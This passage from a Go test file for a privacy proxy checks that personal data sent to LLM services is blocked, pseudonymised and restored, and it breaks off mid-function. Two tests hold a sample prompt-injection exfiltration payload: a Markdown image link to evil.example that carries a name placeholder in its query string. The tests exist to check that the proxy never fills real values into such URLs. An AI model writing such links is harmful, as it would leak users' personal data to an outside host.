package proxy

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"mime/multipart"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/schleuse/schleuse/audit"
	"github.com/schleuse/schleuse/config"
	"github.com/schleuse/schleuse/detectors"
	"github.com/schleuse/schleuse/extract"
	"github.com/schleuse/schleuse/identity"
	"github.com/schleuse/schleuse/internal/testpki"
	"github.com/schleuse/schleuse/policies"
	"github.com/schleuse/schleuse/providers"
	"github.com/schleuse/schleuse/pseudonym"
)

// Values with valid check digits, planted in prompts.
const (
	testIBAN  = "DE89 3704 0044 0532 0130 00"
	testTaxID = "86095742719"
)

// fakeLLM is an upstream that records what it received and answers in the
// OpenAI shape, echoing the last user message.
type fakeLLM struct {
	mu       sync.Mutex
	received []string
}

func (f *fakeLLM) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	f.mu.Lock()
	f.received = append(f.received, string(b))
	f.mu.Unlock()
	var req struct {
		Stream   bool `json:"stream"`
		Messages []struct {
			Content string `json:"content"`
		} `json:"messages"`
	}
	json.Unmarshal(b, &req)
	echo := ""
	if len(req.Messages) > 0 {
		echo = req.Messages[len(req.Messages)-1].Content
	}
	if req.Stream {
		w.Header().Set("Content-Type", "text/event-stream")
		// The echo in two-byte deltas: every placeholder is split.
		for i := 0; i < len(echo); i += 2 {
			chunk, _ := json.Marshal(echo[i:min(i+2, len(echo))])
			io.WriteString(w, `data: {"choices":[{"index":0,"delta":{"content":`+string(chunk)+`}}]}`+"\n\n")
			w.(http.Flusher).Flush()
		}
		io.WriteString(w, "data: [DONE]\n\n")
		return
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(map[string]any{"choices": []any{map[string]any{"message": map[string]any{"role": "assistant", "content": "Sie schrieben: " + echo}}}})
}

func (f *fakeLLM) last() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.received) == 0 {
		return ""
	}
	return f.received[len(f.received)-1]
}

type pipeHarness struct {
	*harness
	llm   *fakeLLM
	audit *audit.Logger
	pol   *policies.Engine
	pipe  *Pipeline
}

// auditReader flushes the harness's audit log and opens a reader on it,
// closed when the test ends.
func (h *pipeHarness) auditReader(t *testing.T) *audit.Reader {
	t.Helper()
	if err := h.audit.Flush(context.Background()); err != nil {
		t.Fatal(err)
	}
	r, err := audit.OpenReader(context.Background(), audit.Config{Dir: h.stateDir, Node: "test"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	return r
}

func newPipeHarness(t *testing.T, mutate func(*config.Config)) *pipeHarness {
	return newPipeHarnessWith(t, mutate, nil)
}

// newPipeHarnessWith adds upstreams for extra hosts.
func newPipeHarnessWith(t *testing.T, mutate func(*config.Config), extra map[string]http.Handler) *pipeHarness {
	return newPipeHarnessOpts(t, pipeOpts{mutate: mutate, extra: extra})
}

// pipeOpts adjust the pipeline harness.
type pipeOpts struct {
	mutate   func(*config.Config)
	extra    map[string]http.Handler
	identity *identity.Config
	log      io.Writer
	tel      func(p *Pipeline) Metrics // wires telemetry; returns the server metrics
}

func newPipeHarnessOpts(t *testing.T, o pipeOpts) *pipeHarness {
	t.Helper()
	upCA := testpki.NewCA("fake LLM CA")
	llm := &fakeLLM{}
	hosts := []string{"api.openai.com", "myres.openai.azure.com", "api.perplexity.ai", "llm.example.net"}
	addr := upstream(t, upCA, llm, hosts...)
	resolve := map[string]string{}
	for _, h := range hosts {
		resolve[h+":443"] = addr
	}
	for host, handler := range o.extra {
		resolve[host+":443"] = upstream(t, upCA, handler, host)
	}
	dir := t.TempDir()
	cfg := config.Default()
	cfg.StateDir = dir
	cfg.Upstream.Resolve = resolve
	cfg.Upstream.CAFiles = []string{upCA.WritePEM(dir, "upstream-ca.pem")}
	cfg.Services = append(cfg.Services, config.Service{ID: "llm-unregistered", Provider: "openai-compatible", Hosts: []string{"llm.example.net"}, Mode: "inspect"})
	if o.mutate != nil {
		o.mutate(cfg)
	}
	ctx := context.Background()
	ca, _, err := LoadOrInitCA(dir)
	if err != nil {
		t.Fatal(err)
	}
	pol, err := policies.Open(ctx, cfg.Policy.Dir)
	if err != nil {
		t.Fatal(err)
	}
	al, err := audit.Open(ctx, audit.Config{Dir: dir, Node: "test"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { al.Close() })
	routes := append(providers.DefaultRoutes(), providers.Route{Host: "llm.example.net", Method: "POST", Path: `/v1/chat/completions`, Adapter: "openai"})
	router, err := providers.NewRouter(routes)
	if err != nil {
		t.Fatal(err)
	}
	w := o.log
	if w == nil {
		w = io.Discard
	}
	log := slog.New(slog.NewJSONHandler(w, &slog.HandlerOptions{Level: slog.LevelDebug}))
	var srv *Server // set below, before Serve, as in run
	pipe := &Pipeline{Config: cfg.Inspect, Router: router, Scanner: detectors.Default(),
		Policy: pol, Revision: pol.Revision, Audit: al, Pseudonyms: pseudonym.NewStore(time.Hour, 100), Log: log,
		UserPseudonym: al.Pseudonym, ExtractFile: extract.Text, FileNotice: extract.Notice, Contact: func() string { return srv.Notice().Contact }}
	var metrics Metrics
	if o.tel != nil {
		metrics = o.tel(pipe)
	}
	idc := identity.Config{}
	if o.identity != nil {
		idc = *o.identity
	}
	auth, err := identity.New(idc)
	if err != nil {
		t.Fatal(err)
	}
	srv, err = New(Options{Config: cfg, CA: ca, Identity: auth, Inspector: pipe, Logger: log, Metrics: metrics})
	if err != nil {
		t.Fatal(err)
	}
	pl, _ := net.Listen("tcp", "127.0.0.1:0")
	adl, _ := net.Listen("tcp", "127.0.0.1:0")
	srv.Serve(pl, adl)
	t.Cleanup(func() { srv.Shutdown(context.Background()) })
	h := &harness{t: t, srv: srv, upCA: upCA, stateDir: dir, cfg: cfg}
	h.proxyURL = mustURL("http://" + pl.Addr().String())
	h.schleuseP = poolOf(ca)
	return &pipeHarness{harness: h, llm: llm, audit: al, pol: pol, pipe: pipe}
}

func (h *pipeHarness) chat(t *testing.T, host, prompt string, stream bool) (int, string) {
	t.Helper()
	body, _ := json.Marshal(map[string]any{"model": "gpt-4o", "stream": stream,
		"messages": []any{map[string]any{"role": "user", "content": prompt}}})
	req, _ := http.NewRequest("POST", "https://"+host+"/v1/chat/completions", strings.NewReader(string(body)))
	req.Header.Set("Content-Type", "application/json")
	return h.send(t, req)
}

// send sends req through schleuse and returns the status and the body.
func (h *pipeHarness) send(t *testing.T, req *http.Request) (int, string) {
	t.Helper()
	resp, err := h.client(h.schleuseP, false).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestPipelineDecisionsPerService(t *testing.T) {
	h := newPipeHarness(t, nil)
	// The decisions below come from the compiled evaluator (policies/vm.go), as in production.
	if ok, why := h.pol.Compiled(); !ok {
		t.Fatalf("default policy not compiled: %s", why)
	}
	prompt := "Bitte formuliere einen Brief an Herrn Mehmet Yılmaz wegen seines Antrags."
	// Approved closed service with PERSON permitted: allowed unchanged.
	code, _ := h.chat(t, "myres.openai.azure.com", prompt, false)
	if code != 200 || !strings.Contains(h.llm.last(), "Mehmet Yılmaz") {
		t.Fatalf("azure: %d, upstream saw %q", code, h.llm.last())
	}
	// Approved service: redacted upstream, restored in the answer.
	code, body := h.chat(t, "api.openai.com", prompt, false)
	if code != 200 || strings.Contains(h.llm.last(), "Yılmaz") || !strings.Contains(h.llm.last(), "[PERSON_1]") {
		t.Fatalf("openai: %d, upstream saw %q", code, h.llm.last())
	}
	if !strings.Contains(body, "Mehmet Yılmaz") || strings.Contains(body, "[PERSON_1]") {
		t.Fatalf("answer not restored: %s", body)
	}
	// Registered but not approved: blocked with the native error shape.
	n := len(h.llm.received)
	code, body = h.chat(t, "api.perplexity.ai", prompt, false)
	if code != 400 || !strings.Contains(body, `"error"`) || !strings.Contains(body, "nicht") || len(h.llm.received) != n {
		t.Fatalf("perplexity: %d %s", code, body)
	}
	// Not in the register at all: blocked.
	code, body = h.chat(t, "llm.example.net", prompt, false)
	if code != 400 || !strings.Contains(body, "Transparenzregister") || len(h.llm.received) != n {
		t.Fatalf("unregistered: %d %s", code, body)
	}
}

// TestPipelineSetScanner: a scanner with the DPO's lexicon additions
// (what a SIGHUP with inspect.lexicon_dir does) applies to the next request
// through the running proxy.
func TestPipelineSetScanner(t *testing.T) {
	h := newPipeHarness(t, nil)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "special_health.txt"), []byte("morbus quirinus\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	prompt := "Frau Nowak leidet an Morbus Quirinus, bitte formuliere eine Antwort."
	if code, _ := h.chat(t, "api.openai.com", prompt, false); code != 200 {
		t.Fatalf("built-in lists: %d", code)
	}
	eng, err := detectors.NewWithLexiconDir(detectors.Options{}, dir)
	if err != nil {
		t.Fatal(err)
	}
	h.pipe.SetScanner(eng)
	n := len(h.llm.received)
	code, body := h.chat(t, "api.openai.com", prompt, false)
	if code != 400 || len(h.llm.received) != n || !strings.Contains(body, "KI-Richtlinie Abschnitt 3.1") {
		t.Fatalf("with the DPO's list the Art. 9 phrase must block: %d %s", code, body)
	}
}

// TestPipelineHighRiskTopic: the topic signal comes from the engine's scan
// through the running proxy; with personal data the EU-AI-Act rule blocks
// (the final decision on applicants stays with a human), without it the
// same request passes.
func TestPipelineHighRiskTopic(t *testing.T) {
	h := newPipeHarness(t, nil)
	n := len(h.llm.received)
	code, body := h.chat(t, "api.openai.com", "Bitte bewerte den Lebenslauf der Bewerberin Anna Schmidt und empfiehl, ob wir sie einstellen.", false)
	if code != 400 || len(h.llm.received) != n || !strings.Contains(body, "Abschnitt 5.1") {
		t.Fatalf("high-risk use with a name: %d %s", code, body)
	}
	code, _ = h.chat(t, "api.openai.com", "Wie gliedert man einen Lebenslauf für eine Bewerbung?", false)
	if code != 200 || len(h.llm.received) != n+1 {
		t.Fatalf("topic without personal data: %d", code)
	}
}

func TestPipelineBlocksAndAudits(t *testing.T) {
	h := newPipeHarness(t, nil)
	n := len(h.llm.received)
	code, body := h.chat(t, "api.openai.com", "Meine Steuer-ID ist "+testTaxID+", Diagnose F32.1 laut Arztbrief.", false)
	if code != 400 || len(h.llm.received) != n {
		t.Fatalf("special category: %d %s", code, body)
	}
	var e struct {
		Error struct{ Message, Code string } `json:"error"`
	}
	if err := json.Unmarshal([]byte(body), &e); err != nil || !strings.Contains(e.Error.Message, "nicht an den KI-Dienst gesendet") {
		t.Fatalf("notice: %v %s", err, body)
	}
	if strings.Contains(body, testTaxID) || strings.Contains(body, "F32.1") {
		t.Fatal("the notice repeats a value")
	}
	code, _ = h.chat(t, "api.openai.com", "Wie schreibe ich eine höfliche Absage?", false)
	if code != 200 {
		t.Fatalf("harmless prompt: %d", code)
	}
	r := h.auditReader(t)
	recs, err := r.Query(context.Background(), audit.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || recs[0].Action != "block" || recs[1].Action != "allow" {
		t.Fatalf("audit records: %+v", recs)
	}
	if recs[0].Findings["DE_TAX_ID"] != 1 || len(recs[0].Fingerprints) == 0 || recs[0].PolicyRevision == "" {
		t.Fatalf("block record: %+v", recs[0])
	}
	hits, err := r.Query(context.Background(), audit.Filter{Value: testTaxID})
	if err != nil || len(hits) != 1 {
		t.Fatalf("value query: %v %d", err, len(hits))
	}
	// No raw value anywhere in the state directory.
	filepath.Walk(h.stateDir, func(p string, info os.FileInfo, err error) error {
		if err != nil || info.IsDir() {
			return nil
		}
		b, _ := os.ReadFile(p)
		if strings.Contains(string(b), testTaxID) {
			t.Errorf("%s holds the raw Steuer-ID", p)
		}
		return nil
	})
}

func TestPipelineStreamRestore(t *testing.T) {
	h := newPipeHarness(t, nil)
	code, body := h.chat(t, "api.openai.com", "Überweise an "+testIBAN+" für Frau Anna Schmidt.", true)
	if code != 200 {
		t.Fatalf("%d %s", code, body)
	}
	if strings.Contains(h.llm.last(), "3704") || strings.Contains(h.llm.last(), "Schmidt") {
		t.Fatalf("upstream saw raw values: %s", h.llm.last())
	}
	// Reassemble the deltas the client received.
	text, err := sseDeltaText(body)
	if err != nil {
		t.Fatal(err)
	}
	want := "Überweise an " + testIBAN + " für Frau Anna Schmidt."
	if text != want {
		t.Fatalf("restored stream = %q, want %q", text, want)
	}
}

// sseDeltaText joins the content deltas of an OpenAI chat stream as the
// client reads them.
func sseDeltaText(body string) (string, error) {
	var text strings.Builder
	for _, line := range strings.Split(body, "\n") {
		data, ok := strings.CutPrefix(line, "data: ")
		if !ok || data == "[DONE]" {
			continue
		}
		var ev struct {
			Choices []struct {
				Delta struct{ Content string } `json:"delta"`
			} `json:"choices"`
		}
		if err := json.Unmarshal([]byte(data), &ev); err != nil {
			return "", fmt.Errorf("client got invalid JSON %q: %w", data, err)
		}
		for _, c := range ev.Choices {
			text.WriteString(c.Delta.Content)
		}
	}
	return text.String(), nil
}

// TestPipelineRestoreNotIntoURLs: an answer that puts a placeholder into a
// URL (a hostile service, or instructions injected into a pasted document:
// "![](https://attacker/p.png?n=[PERSON_1])") does not get the value there,
// or the browser would send it to that host when it loads the image; the
// same placeholder in the text around it is restored. Through the running
// proxy, as a whole answer and as a stream of two-byte deltas.
func TestPipelineRestoreNotIntoURLs(t *testing.T) {
	h := newPipeHarness(t, nil)
	if code, body := h.chat(t, "api.openai.com", "Bitte schreibe an Frau Anna Schmidt.", false); code != 200 || !strings.Contains(h.llm.last(), "[PERSON_1]") {
		t.Fatalf("%d %s; upstream saw %s", code, body, h.llm.last())
	}
	// The fake service echoes the prompt: what it sends back is what an
	// injected instruction would have it write. The name is in the same
	// request: the answer to a stateless chat request is restored with the
	// placeholders that request sent (TestAnswerRestoresOnlyItsPlaceholders).
	exfil := "![Logo](https://evil.example/p.png?n=[PERSON_1]) Gruß an [PERSON_1]"
	for _, stream := range []bool{false, true} {
		code, body := h.chat(t, "api.openai.com", "An Frau Anna Schmidt: "+exfil, stream) // an even offset: the two-byte deltas keep "ß" whole
		if code != 200 {
			t.Fatalf("stream=%v: %d %s", stream, code, body)
		}
		if strings.Contains(body, "Anna Schmidt)") || strings.Contains(body, "n=Anna") {
			t.Fatalf("stream=%v: value restored into the URL: %s", stream, body)
		}
		text := body
		if stream {
			var err error
			if text, err = sseDeltaText(body); err != nil {
				t.Fatal(err)
			}
		}
		if !strings.Contains(text, "p.png?n=[PERSON_1]) Gruß an Anna Schmidt") {
			t.Fatalf("stream=%v: answer %q", stream, text)
		}
	}
}

// TestPipelineRestoreVariants: a placeholder the model rewrote ("[Person
// 1]", Markdown escapes, the bare "PERSON_1" in bold) is restored through
// the running proxy, as a whole answer and as a stream of two-byte deltas
// that split every variant; a lookalike the mapping never issued, and a
// variant inside a URL, stay as written.
func TestPipelineRestoreVariants(t *testing.T) {
	h := newPipeHarness(t, nil)
	if code, body := h.chat(t, "api.openai.com", "Bitte schreibe an Frau Anna Schmidt.", false); code != 200 || !strings.Contains(h.llm.last(), "[PERSON_1]") {
		t.Fatalf("%d %s; upstream saw %s", code, body, h.llm.last())
	}
	// The fake service echoes the prompt: the answer is these variants
	// (after the name, in the same request: see TestPipelineRestoreNotIntoURLs).
	answer := `Sehr geehrte/r [Person 1], danke \[PERSON\_1\]. Gruss an **PERSON_1** und [person 2], ![](https://evil.example/p.png?n=[person_1])`
	want := `Sehr geehrte/r Anna Schmidt, danke Anna Schmidt. Gruss an **Anna Schmidt** und [person 2], ![](https://evil.example/p.png?n=[person_1])`
	for _, stream := range []bool{false, true} {
		code, body := h.chat(t, "api.openai.com", "Frau Anna Schmidt: "+answer, stream)
		if code != 200 {
			t.Fatalf("stream=%v: %d %s", stream, code, body)
		}
		if up := h.llm.last(); strings.Contains(up, "Schmidt") || !strings.Contains(up, "[Person 1]") || !strings.Contains(up, "**PERSON_1**") {
			t.Fatalf("stream=%v: upstream saw %s", stream, h.llm.last())
		}
		text := body
		if stream {
			var err error
			if text, err = sseDeltaText(body); err != nil {
				t.Fatal(err)
			}
		} else {
			var resp struct {
				Choices []struct{ Message struct{ Content string } }
			}
			if err := json.Unmarshal([]byte(body), &resp); err != nil || len(resp.Choices) == 0 {
				t.Fatalf("answer %s: %v", body, err)
			}
			text = resp.Choices[0].Message.Content
		}
		if !strings.Contains(text, want) {
			t.Fatalf("stream=%v: answer %q, want it to hold %q", stream, text, want)
		}
	}
}

// TestPipelineAnswerLength: an answer of known length reaches the client
// with its (restored) length, over HTTP/1.1 and HTTP/2, whether or not it
// had placeholders to restore; a streamed answer stays without one.
func TestPipelineAnswerLength(t *testing.T) {
	h := newPipeHarness(t, nil)
	send := func(t *testing.T, h2 bool, prompt string, stream bool) (*http.Response, string) {
		t.Helper()
		body, _ := json.Marshal(map[string]any{"model": "gpt-4o", "stream": stream,
			"messages": []any{map[string]any{"role": "user", "content": prompt}}})
		resp, err := h.client(h.schleuseP, h2).Post("https://api.openai.com/v1/chat/completions", "application/json", strings.NewReader(string(body)))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		return resp, string(b)
	}
	personal := "Überweise an " + testIBAN + " für Frau Anna Schmidt."
	for _, h2 := range []bool{false, true} {
		for _, c := range []struct {
			name, prompt string
			stream       bool
		}{
			{"restored", personal, false},
			{"clean", "Wie spät ist es in Bonn?", false},
			{"streamed", personal, true},
		} {
			t.Run(fmt.Sprintf("%s/h2=%v", c.name, h2), func(t *testing.T) {
				resp, body := send(t, h2, c.prompt, c.stream)
				if resp.StatusCode != 200 {
					t.Fatalf("%d %s", resp.StatusCode, body)
				}
				if !strings.Contains(body, c.prompt) && !c.stream {
					t.Fatalf("answer not restored: %s", body)
				}
				if c.stream {
					if resp.ContentLength != -1 {
						t.Fatalf("streamed answer announced length %d", resp.ContentLength)
					}
					return
				}
				if resp.ContentLength != int64(len(body)) {
					t.Fatalf("ContentLength %d, body %d bytes (TransferEncoding %v)", resp.ContentLength, len(body), resp.TransferEncoding)
				}
				if !h2 && len(resp.TransferEncoding) != 0 {
					t.Fatalf("TransferEncoding %v", resp.TransferEncoding)
				}
			})
		}
	}
}

// TestRestoreAtOnce: the answer restored whole, its length announced and
// its buffer zeroed at Close; an upstream that sends less than it
// announced is an error of the body, never a shorter answer.
func TestRestoreAtOnce(t *testing.T) {
	m := pseudonym.NewMapping()
	ph := m.Replace("pseudonym", "PERSON", `Anna "A." Schmidt`)
	answer := `{"text":"Hallo ` + ph + `!"}`
	want := `{"text":"Hallo Anna \"A.\" Schmidt!"}`
	closer := func(body string, length int64) (*http.Response, *closeCount) {
		cc := &closeCount{Reader: strings.NewReader(body)}
		return &http.Response{Body: cc, ContentLength: length, Header: http.Header{"Content-Type": {"application/json"}}}, cc
	}
	for _, c := range []struct {
		name    string
		body    string
		length  int64
		want    string
		wantErr bool
	}{
		{"whole", answer, int64(len(answer)), want, false},
		{"short", answer[:10], int64(len(answer)), "", true},
		{"long", answer + "xx", int64(len(answer)), "", true},
	} {
		t.Run(c.name, func(t *testing.T) {
			resp, cc := closer(c.body, c.length)
			restoreResponse(resp, m, pseudonym.Format{Kind: "json"})
			got, err := io.ReadAll(resp.Body)
			if c.wantErr {
				if err == nil {
					t.Fatalf("no error, got %q", got)
				}
			} else {
				if err != nil || string(got) != c.want {
					t.Fatalf("got %q, %v; want %q", got, err, c.want)
				}
				if resp.ContentLength != int64(len(c.want)) || resp.Header.Get("Content-Length") != fmt.Sprint(len(c.want)) {
					t.Fatalf("length %d / %q, want %d", resp.ContentLength, resp.Header.Get("Content-Length"), len(c.want))
				}
			}
			// Close zeroes the restored answer's buffer, all of its
			// capacity (ReleaseBody zeroes every buffer it takes back).
			rb, _ := resp.Body.(*restoredBody)
			var buf []byte
			if rb != nil {
				buf = rb.b[:cap(rb.b)]
			}
			resp.Body.Close()
			if cc.closed != 1 {
				t.Fatalf("upstream body closed %d times", cc.closed)
			}
			if strings.Contains(string(buf), "Schmidt") {
				t.Fatal("restored buffer not zeroed at Close")
			}
			if n, err := resp.Body.Read(make([]byte, 8)); err == nil || n > 0 {
				t.Fatalf("read after close: %d, %v", n, err)
			}
		})
	}
	// Event streams are never read at once.
	resp, _ := closer("data: "+answer+"\n\n", int64(len(answer)+8))
	resp.Header.Set("Content-Type", "text/event-stream")
	restoreResponse(resp, m, pseudonym.Format{Kind: "text"})
	if _, ok := resp.Body.(*restoredBody); ok || resp.ContentLength != -1 {
		t.Fatalf("event stream restored at once (length %d)", resp.ContentLength)
	}
}

type closeCount struct {
	io.Reader
	closed int
}

func (c *closeCount) Close() error { c.closed++; return nil }

func TestPipelineFailsClosed(t *testing.T) {
	h := newPipeHarness(t, func(c *config.Config) { c.Inspect.UnknownRequests = "block" })
	post := func(path, ct, body string, hdr map[string]string) (int, string) {
		req, _ := http.NewRequest("POST", "https://api.openai.com"+path, strings.NewReader(body))
		req.Header.Set("Content-Type", ct)
		for k, v := range hdr {
			req.Header.Set(k, v)
		}
		resp, err := h.client(h.schleuseP, false).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	n := len(h.llm.received)
	cases := []struct {
		name, path, ct, body string
		hdr                  map[string]string
		want                 string
	}{
		{"malformed JSON", "/v1/chat/completions", "application/json", `{"messages":[{"role":"user","content":"Herr Müller`, nil, "nicht gelesen"},
		{"unknown encoding", "/v1/chat/completions", "application/json", `xx`, map[string]string{"Content-Encoding": "x-magic"}, "unbekannten Format"},
		{"unknown endpoint", "/v1/brand-new-endpoint", "application/json", `{"input":"Herr Müller"}`, nil, "nicht bekannt"},
	}
	for _, tc := range cases {
		code, body := post(tc.path, tc.ct, tc.body, tc.hdr)
		if code < 400 || !strings.Contains(body, tc.want) {
			t.Errorf("%s: %d %s", tc.name, code, body)
		}
	}
	if len(h.llm.received) != n {
		t.Fatalf("%d uninspected requests reached the upstream", len(h.llm.received)-n)
	}
}

func TestPipelineUnknownShapeIsScanned(t *testing.T) {
	h := newPipeHarness(t, nil) // default: unknown_requests: scan
	post := func(body string) (int, string) {
		return postJSON(t, h, "https://api.openai.com/v1/brand-new-endpoint", body)
	}
	n := len(h.llm.received)
	if code, body := post(`{"event":"page_view","client":{"id":"3f2a9c1e-8b7d-4e6f-a5b4-c3d2e1f0a9b8"}}`); code != 200 {
		t.Fatalf("clean background POST: %d %s", code, body)
	}
	if code, body := post(`{"nested":{"text":"Bitte an IBAN ` + testIBAN + ` überweisen"}}`); code < 400 || !strings.Contains(body, "IBAN") {
		t.Fatalf("unknown shape with findings: %d %s", code, body)
	}
	if len(h.llm.received) != n+1 {
		t.Fatalf("upstream got %d requests, want exactly the clean one", len(h.llm.received)-n)
	}
}

// TestPipelineKnownRouteNoFieldsIsScanned: a request on a known route in
// which the adapter finds no text (the service moved its prompt to a new
// field) is scanned all the same. Before, the route matched, the adapter
// reported nothing, and the prompt reached the service unscanned. The
// adapter reads the strings it does not know (unread), so what the policy
// redacts there is redacted in place.
func TestPipelineKnownRouteNoFieldsIsScanned(t *testing.T) {
	h := newPipeHarness(t, nil)
	post := func(body string) (int, string) {
		return postJSON(t, h, "https://api.openai.com/v1/chat/completions", body)
	}
	n := len(h.llm.received)
	code, body := post(`{"model":"gpt-4o","input_messages":[{"role":"user","content":"Zugang: Passwort: Sommer2024!"}]}`)
	if code < 400 || !strings.Contains(body, "Zugangsdaten") {
		t.Errorf("prompt in a field the adapter does not read: %d %s", code, body)
	}
	if len(h.llm.received) != n {
		t.Fatalf("%d requests reached the upstream unscanned", len(h.llm.received)-n)
	}
	code, body = post(`{"model":"gpt-4o","input_messages":[{"role":"user","content":"Bitte an IBAN ` + testIBAN + ` überweisen"}]}`)
	if code != 200 || len(h.llm.received) != n+1 {
		t.Fatalf("data to replace in a field the adapter does not read: %d %s", code, body)
	}
	if got := h.llm.received[n]; strings.Contains(got, "0532") || !strings.Contains(got, "[IBAN_1]") {
		t.Fatalf("the service got %s", got)
	}
	// Nothing to find: forwarded as before.
	if code, body := post(`{"model":"gpt-4o","input_messages":[{"role":"user","content":"Wie wird das Wetter?"}]}`); code != 200 {
		t.Errorf("clean body in an unknown field: %d %s", code, body)
	}
}

// TestPipelinePathValues: a path segment with white space is text and is
// inspected like a query value (it cannot be rewritten: data to replace
// blocks); and no raw value found anywhere in a path reaches the audit
// record or a log line. Before, /v1/threads/<name, IBAN>/messages reached
// the service, and the IBAN stood in the audit record and the log.
func TestPipelinePathValues(t *testing.T) {
	logs := &syncBuffer{}
	h := newPipeHarnessOpts(t, pipeOpts{log: logs})
	post := func(path, body string) (int, string) {
		req, _ := http.NewRequest("POST", "https://api.openai.com"+path, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		resp, err := h.client(h.schleuseP, false).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(b)
	}
	const iban = "DE89370400440532013000"
	n := len(h.llm.received)
	if code, body := post("/v1/threads/Klaus%20M%C3%BCller%20"+iban+"/messages", `{"role":"user","content":"Hallo"}`); code < 400 || !strings.Contains(body, "Adresse") {
		t.Errorf("an IBAN in a path segment with a space: %d %s", code, body)
	}
	if len(h.llm.received) != n {
		t.Fatal("the path with an IBAN reached the service")
	}
	// Without a space the segment is read as a query token is
	// (TestPathTokensInspected): an IBAN standing alone blocks, an id
	// passes; the value is masked in what is recorded.
	if code, body := post("/v1/brand-new/"+iban, `{"input":"Wie wird das Wetter?"}`); code < 400 || !strings.Contains(body, "Adresse") {
		t.Errorf("clean body, an IBAN as a path segment: %d %s", code, body)
	}
	if code, body := post("/v1/brand-new/6750f1e2-4b2c-8007-9c1a-123456789012", `{"input":"Wie wird das Wetter?"}`); code != 200 {
		t.Errorf("clean body, an id in the path: %d %s", code, body)
	}
	// Words joined by "-" beside a number are read as the detectors must
	// ("Gottfried Wunderlich DE89…"): the name found there is masked in
	// the record and the log line, not only the IBAN.
	if code, body := post("/v1/brand-new/Gottfried-Wunderlich-"+iban, `{"input":"Wie wird das Wetter?"}`); code < 400 || !strings.Contains(body, "Name einer Person") {
		t.Errorf("clean body, a name and an IBAN joined by '-' as a path segment: %d %s", code, body)
	}
	// Base64 of text as a segment, which scanPathBase64 decodes: the
	// record and the log keep "[text]", not the encoded name and IBAN.
	b64 := base64.RawURLEncoding.EncodeToString([]byte("Gottfried Wunderlich " + iban))
	if code, body := post("/v1/brand-new/"+b64+"/content", `{"input":"Wie wird das Wetter?"}`); code < 400 || !strings.Contains(body, "Adresse") {
		t.Errorf("clean body, base64 of a name and an IBAN as a path segment: %d %s", code, body)
	}
	recs := auditRecords(t, h.audit, h.stateDir, "test")
	if len(recs) != 5 {
		t.Fatalf("%d audit records, want 5", len(recs))
	}
	if recs[4].Path != "/v1/brand-new/[text]/content" {
		t.Errorf("audit path %q: want the base64 segment masked", recs[4].Path)
	}
	if strings.Contains(logs.String(), b64[:16]) {
		t.Errorf("a log line holds the base64 of the name:\n%s", logs.String())
	}
	if recs[0].Path != "/v1/threads/[text]/messages" || recs[1].Path != "/v1/brand-new/[IBAN]" {
		t.Errorf("audit paths %q, %q: want the text segment and the IBAN masked", recs[0].Path, recs[1].Path)
	}
	if recs[3].Path != "/v1/brand-new/[PERSON]-[IBAN]" {
		t.Errorf("audit path %q: want the name and the IBAN masked", recs[3].Path)
	}
	if strings.Contains(logs.String(), iban) || strings.Contains(logs.String(), "Müller") || strings.Contains(logs.String(), "Wunderlich") {
		t.Errorf("a log line holds the IBAN or the name:\n%s", logs.String())
	}
}

// pathCountingScanner counts the scans of texts that start with "/" (the
// request paths run.path scans).
type pathCountingScanner struct {
	*detectors.Engine
	mu    sync.Mutex
	paths map[string]int
}

func (s *pathCountingScanner) ScanTopics(text []byte) ([]detectors.Finding, []string) {
	if len(text) > 0 && text[0] == '/' {
		s.mu.Lock()
		s.paths[string(text)]++
		s.mu.Unlock()
	}
	return s.Engine.ScanTopics(text)
}

// TestPipelinePathScannedOnce: a request path is scanned once, not on every
// request to it (the engine's set-up for a path cost ≈3 µs per request), and
// the recorded path still has its values masked when the scan is not
// repeated.
func TestPipelinePathScannedOnce(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	cfg := config.Default()
	pol, err := policies.Open(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	al, err := audit.Open(ctx, audit.Config{Dir: dir, Node: "test"})
	if err != nil {
		t.Fatal(err)
	}
	defer al.Close()
	router, err := providers.NewRouter(providers.DefaultRoutes())
	if err != nil {
		t.Fatal(err)
	}
	sc := &pathCountingScanner{Engine: detectors.Default(), paths: map[string]int{}}
	pipe := &Pipeline{Config: cfg.Inspect, Router: router, Scanner: sc, Policy: pol, Revision: pol.Revision, Audit: al,
		Pseudonyms: pseudonym.NewStore(cfg.Pseudonym.TTL, cfg.Pseudonym.MaxConversations), Log: slog.New(slog.DiscardHandler)}
	svc := &Service{ID: "openai-api", Provider: "openai", Mode: ModeInspect}
	const chat, withIBAN = "/v1/chat/completions", "/v1/files/DE89370400440532013000"
	for _, path := range []string{chat, chat, withIBAN, chat, withIBAN} {
		req, _ := http.NewRequest(http.MethodPost, "https://api.openai.com"+path, nil)
		req.Header.Set("Content-Type", "application/json")
		x := &Exchange{RequestID: newRequestID(), Service: svc, Request: req, Start: time.Now(),
			Body: []byte(`{"model":"gpt-4o","messages":[{"role":"user","content":"Wie wird das Wetter?"}]}`)}
		if v := pipe.Inspect(ctx, x); v == nil {
			t.Fatalf("%s: no verdict", path)
		}
	}
